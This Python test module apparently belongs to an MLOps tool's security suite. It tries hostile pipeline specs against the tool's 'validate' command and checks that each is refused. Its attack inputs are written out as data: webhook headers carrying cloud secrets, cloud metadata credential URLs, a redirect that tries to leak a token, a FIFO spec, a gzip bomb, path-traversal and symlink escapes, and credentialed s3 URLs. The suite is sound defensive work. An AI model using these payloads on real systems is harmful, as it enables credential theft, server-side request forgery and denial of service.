"""Attacks through the spec and its input files (issue 19, "Nobody in, round three"): a spec that sends a secret
away or to a cloud metadata service, a FIFO named like a spec, label files too large or a ``.gz`` bomb, sources
outside the spec's folder or with credentials in their URL, estimator parameters that crash ``validate``.

Each runs the real surface: ``mlops-assets validate`` as a subprocess with a timeout, webhook receivers on
127.0.0.1, label files written into the folder and read by ``read_label_batches`` in a subprocess whose peak
RSS is measured.
"""

from __future__ import annotations

import gzip
import json
import os
import shutil
import subprocess
import sys
import threading
from pathlib import Path

import yaml

from attacks.attack import Attack, Outcome
from tests.webhook import Receiver

REPO = Path(__file__).resolve().parents[2]
SECRET = "wJalrXUtnFEMI-bench-secret"
LABELS = "data/breast_cancer/labels"


def pipelines_in(folder: Path) -> Path:
    """A copy of the bundled pipelines and their data under ``folder``."""
    shutil.copytree(REPO / "pipelines", folder / "pipelines")
    return folder / "pipelines"


def variant(pipelines: Path, edit, name: str = "variant.yaml") -> Path:
    raw = yaml.safe_load((pipelines / "breast_cancer.yaml").read_text())
    edit(raw)
    path = pipelines / name
    path.write_text(yaml.safe_dump(raw))
    return path


def validate(path: Path, timeout_s: float = 60, env: dict | None = None) -> tuple[int | None, str]:
    """``mlops-assets validate path``: its exit status (``None`` when it hung past ``timeout_s``) and stderr."""
    command = [sys.executable, "-m", "mlops_assets.cli", "validate", str(path)]
    try:
        done = subprocess.run(command, capture_output=True, text=True, timeout=timeout_s, env=env, cwd=REPO)
    except subprocess.TimeoutExpired:
        return None, ""
    return done.returncode, done.stderr + done.stdout


def refused(path: Path, field: str, env: dict | None = None) -> tuple[bool, str]:
    """Whether validate refused ``path`` naming the file and ``field``, with no traceback; and its line."""
    code, output = validate(path, env=env)
    line = next((x.strip() for x in output.splitlines() if x.strip().startswith(f"- {field}")), output[-150:])
    ok = code == 2 and "Traceback" not in output and str(path) in output and line.startswith(f"- {field}")
    return ok, line


def held_if_all(checks: list[tuple[str, bool, str]]) -> Outcome:
    """Held when every check held; observed: each check's refusal, shortened (or what happened instead)."""
    lines = [
        f"{what}: {'refused, ' if ok else 'NOT refused: '}{line.removeprefix('- ')[:70]}" for what, ok, line in checks
    ]
    return Outcome("; ".join(lines), all(ok for _, ok, _ in checks))


# --- 2: a spec sends a secret anywhere --------------------------------------------------------------------


def secret_header(folder: Path) -> Outcome:
    pipelines = pipelines_in(folder)
    env = {**os.environ, "AWS_SECRET_ACCESS_KEY": SECRET, "MLOPS_ADMIN_TOKEN": SECRET}
    checks = []
    for variable in ("AWS_SECRET_ACCESS_KEY", "MLOPS_ADMIN_TOKEN"):
        alert = {"webhook": "https://hooks.example.com/x", "headers_from_env": {"X-Leak": variable}}
        path = variant(pipelines, lambda raw, a=alert: raw.update(alerts=[a]))
        ok, line = refused(path, "alerts.0.headers_from_env", env)
        checks.append((variable, ok, line))
    return held_if_all(checks)


def redirect(folder: Path) -> Outcome:
    import logging

    from mlops_assets.alerts.delivery import send_alerts
    from mlops_assets.naming import AlertEvent
    from mlops_assets.spec import load_spec

    other = Receiver()
    first = Receiver(302, other.url.replace("127.0.0.1", "localhost"))  # another origin
    for server in (first, other):
        threading.Thread(target=server.serve_forever, daemon=True).start()
    pipelines = pipelines_in(folder)
    os.environ["MLOPS_ALERT_TOKEN"] = SECRET
    try:
        alert = {"webhook": first.url, "headers_from_env": {"Authorization": "MLOPS_ALERT_TOKEN"}, "timeout_s": 3}
        spec = load_spec(variant(pipelines, lambda raw: raw.update(alerts=[alert])))
        log = logging.getLogger("attack.redirect")
        log.addHandler(logging.NullHandler())
        log.propagate = False
        outcome = send_alerts(spec, AlertEvent.drift, "drifted", "link", log)
    finally:
        os.environ.pop("MLOPS_ALERT_TOKEN")
        for server in (first, other):
            server.shutdown()
            server.server_close()
    leaked = [h for _, _, h in other.received if SECRET in h.values()]
    observed = (
        f"webhook got {len(first.received)} request(s), the redirect target {len(other.received)} "
        f"({len(leaked)} with the secret); {outcome.failed.get(first.url) or 'delivered'}"
    )
    return Outcome(observed, first.received and not other.received)


def metadata_webhook(folder: Path) -> Outcome:
    pipelines = pipelines_in(folder)
    checks = []
    for url in (
        "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
        "http://[fe80::1]/hook",
        "http://metadata.google.internal/computeMetadata/v1/",
        "https://user:pass@hooks.example.com/x",
    ):
        path = variant(pipelines, lambda raw, u=url: raw.update(alerts=[{"webhook": u}]))
        ok, line = refused(path, "alerts.0.webhook")
        checks.append((url.split("/")[2], ok, line))
    return held_if_all(checks)


# --- 6: a FIFO hangs the code location --------------------------------------------------------------------


def fifo_spec(folder: Path) -> Outcome:
    pipelines = pipelines_in(folder)
    os.mkfifo(pipelines / "evil.yaml")
    code, output = validate(pipelines, timeout_s=60)
    if code is None:
        return Outcome("validate still blocked after 60 s", False)
    script = (
        f"from mlops_assets.definitions.folder import build_definitions as b; d = b({str(pipelines)!r}); "
        "print(sorted({s.key.to_user_string() for a in d.assets for s in getattr(a, 'specs', [a])}))"
    )
    try:
        done = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, timeout=180, cwd=REPO)
    except subprocess.TimeoutExpired:
        return Outcome("validate answered, but the code location still blocked after 180 s", False)
    keys = done.stdout
    loaded = [name for name in ("breast_cancer", "diabetes", "wine") if f"'{name}/trained_model'" in keys]
    shown = "'evil/spec_error'" in keys
    said = "not a regular file (a FIFO)" in output and "evil.yaml" in output
    observed = (
        f"validate exit {code}, {'names evil.yaml as a FIFO' if said else output[-120:]}; code location loads "
        f"{len(loaded)}/3 pipelines{' and shows evil/spec_error' if shown else ''}"
    )
    return Outcome(observed, code == 2 and said and len(loaded) == 3 and shown)


# --- 7: label files read whole ----------------------------------------------------------------------------

READ_LABELS = """
import json, resource, sys, time
from pathlib import Path
from mlops_assets.data.feedback import read_label_batches
from mlops_assets.spec import load_spec
spec = load_spec(sys.argv[1])
before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
started = time.monotonic()
batches = read_label_batches(spec, Path(sys.argv[1]).parent)
print(json.dumps({"s": time.monotonic() - started, "rss_mb": resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024,
                  "before_mb": before / 1024, "unreadable": batches.unreadable, "counts": batches.counts}))
"""


def read_labels_measured(spec_path: Path, timeout_s: float = 300) -> dict | None:
    command = [sys.executable, "-c", READ_LABELS, str(spec_path)]
    try:
        done = subprocess.run(command, capture_output=True, text=True, timeout=timeout_s, cwd=REPO)
    except subprocess.TimeoutExpired:
        return None
    return json.loads(done.stdout.strip().splitlines()[-1]) if done.returncode == 0 else {"error": done.stderr[-300:]}


def labels_folder(folder: Path) -> tuple[Path, Path]:
    """Pipelines whose breast_cancer spec reads every file of its (emptied) labels folder, plus one good batch."""
    pipelines = pipelines_in(folder)
    for file in (pipelines / LABELS).iterdir():
        file.unlink()
    (pipelines / LABELS / "batch-0001.csv").write_text("patient_id,diagnosis\nP0001,benign\n")
    spec = variant(pipelines, lambda raw: raw["source"]["labels"].update(path=f"{LABELS}/"), "breast_cancer.yaml")
    return pipelines, spec


def judged(result: dict | None, file: str, rss_bound_mb: float) -> Outcome:
    if result is None:
        return Outcome("still reading after 300 s", False)
    if "error" in result:
        return Outcome(f"the read failed: {result['error']}", False)
    why = next((w for f, w in result["unreadable"].items() if f.endswith(file)), None)
    grew = result["rss_mb"] - result["before_mb"]
    observed = (
        f"{'set aside: ' + why[:70] if why else 'read'}; {result['counts']['accepted']} label(s) accepted; "
        f"peak RSS {result['rss_mb']:.0f} MB (+{grew:.0f} MB while reading), {result['s']:.1f} s"
    )
    return Outcome(observed, why is not None and grew < rss_bound_mb and result["counts"]["accepted"] == 1)


def big_label_csv(folder: Path) -> Outcome:
    pipelines, spec = labels_folder(folder)
    row = b"P0002,benign\n"
    with open(pipelines / LABELS / "batch-0002.csv", "wb") as file:
        file.write(b"patient_id,diagnosis\n")
        for _ in range(100):
            file.write(row * (1_000_000 // len(row) + 1))  # 100 MB
    return judged(read_labels_measured(spec), "batch-0002.csv", rss_bound_mb=100)


def gz_bomb(folder: Path) -> Outcome:
    pipelines, spec = labels_folder(folder)
    bomb = pipelines / LABELS / "batch-0002.csv.gz"
    with gzip.open(bomb, "wb", compresslevel=9) as file:
        file.write(b"patient_id,diagnosis\n")
        chunk = b"P0002,benign\n" * 80_000
        for _ in range(2_000):  # 2 GB once decompressed
            file.write(chunk)
    outcome = judged(read_labels_measured(spec), "batch-0002.csv.gz", rss_bound_mb=150)
    return Outcome(f"{bomb.stat().st_size / 1e6:.1f} MB file of 2.1 GB: {outcome.observed}", outcome.held)


# --- 9: sources escape the spec's folder ------------------------------------------------------------------


def source_escape(folder: Path) -> Outcome:
    pipelines = pipelines_in(folder)
    elsewhere = folder / "elsewhere"
    elsewhere.mkdir()
    shutil.copy(pipelines / "data/breast_cancer/features.csv", elsewhere / "x.csv")
    (pipelines / "data" / "link.csv").symlink_to(elsewhere / "x.csv")
    checks = []
    for what, field, value in (
        ("parent", "source.path", "../elsewhere/x.csv"),
        ("absolute", "source.path", str(elsewhere / "x.csv")),
        ("symlink", "batch.path", "data/link.csv"),
        ("labels", "source.labels.path", "../elsewhere/"),
    ):
        parts = field.split(".")[:-1]

        def edit(raw, parts=parts, value=value):
            target = raw
            for part in parts:
                target = target[part]
            target["path"] = value

        ok, line = refused(variant(pipelines, edit), field)
        checks.append((what, ok, line))
    path = variant(pipelines, lambda raw: raw["source"].update(path=f"s3://AKIAEXAMPLE:{SECRET}@bucket/x.csv"))
    ok, line = refused(path, "source.path")
    _, output = validate(path)
    checks.append(("s3 credentials", ok and SECRET not in output, line))
    return held_if_all(checks)


# --- 10: estimator parameters crash validate --------------------------------------------------------------


def estimator_params(folder: Path) -> Outcome:
    pipelines = pipelines_in(folder)
    checks = []
    for what, model, field in (
        ("Pipeline {}", {"estimator": "sklearn.pipeline.Pipeline", "params": {}}, "model.params"),
        (
            "n_estimators many",
            {"estimator": "sklearn.ensemble.RandomForestClassifier", "params": {"n_estimators": "many"}},
            "model.params.n_estimators",
        ),
        ("sklearn test class", {"estimator": "sklearn.utils._mocking.CheckingClassifier"}, "model.estimator"),
        (
            "sklearn tests module",
            {"estimator": "sklearn.utils.tests.test_estimator_checks.BaseBadClassifier"},
            "model.estimator",
        ),
    ):
        ok, line = refused(variant(pipelines, lambda raw, m=model: raw.update(model=m)), field)
        checks.append((what, ok, line))
    return held_if_all(checks)


ATTACKS = [
    Attack(
        "alert-secret-header",
        "a webhook header from AWS_SECRET_ACCESS_KEY or MLOPS_ADMIN_TOKEN is refused at load, naming field and file",
        secret_header,
    ),
    Attack(
        "alert-redirect",
        "a webhook answering 302 to another host: not followed, the header reaches only the webhook",
        redirect,
    ),
    Attack(
        "alert-metadata-webhook",
        "169.254.169.254, fe80::, metadata.google.internal and user:pass@ webhooks refused at load",
        metadata_webhook,
    ),
    Attack(
        "fifo-spec",
        "mkfifo pipelines/evil.yaml: validate names it and exits; the code location loads the rest",
        fifo_spec,
    ),
    Attack("label-100mb-csv", "a 100 MB label CSV is set aside with its size, RSS bounded", big_label_csv),
    Attack("label-gz-bomb", "a .gz label bomb stops at the decompression bound, RSS bounded", gz_bomb),
    Attack(
        "source-escape",
        "../, absolute, symlinked and s3://KEY:secret@ sources refused at load naming the field; no secret shown",
        source_escape,
    ),
    Attack(
        "estimator-params",
        "Pipeline without steps, n_estimators: many, sklearn test/private classes: validate says why, no traceback",
        estimator_params,
    ),
]
